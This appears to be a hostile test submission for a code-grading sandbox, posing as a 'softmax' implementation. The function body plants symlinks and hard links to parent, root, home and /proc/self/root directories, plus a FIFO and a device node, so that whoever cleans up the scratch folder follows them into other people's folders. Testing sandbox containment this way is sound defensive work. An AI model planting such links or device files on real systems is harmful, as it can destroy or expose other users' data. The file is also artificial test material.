"""Leaves links in its scratch folder that lead to the folders of others, for whoever will empty it."""

# /// attack
# exercise = "softmax"
# verdicts = ["wrong"]
# confined_only = true
# ///

# %% softmax
import os


def softmax(x, dim=-1):
    made = []
    for number, target in enumerate(("..", "/", "/tmp", os.path.expanduser("~"), "/proc/self/root", "../..")):
        for make in (os.symlink, os.link):
            try:
                make(target, f"left-behind-link-{number}")
                made.append(target)
            except OSError:
                continue
    for make in (lambda: os.mkfifo("left-behind-pipe"), lambda: os.mknod("left-behind-device", 0o20666, 0x103)):
        try:
            make()
            made.append("a device")
        except OSError:
            continue
    if made:
        raise RuntimeError(f"made links to {made}")
    return torch.full_like(x, 1 / x.size(dim))
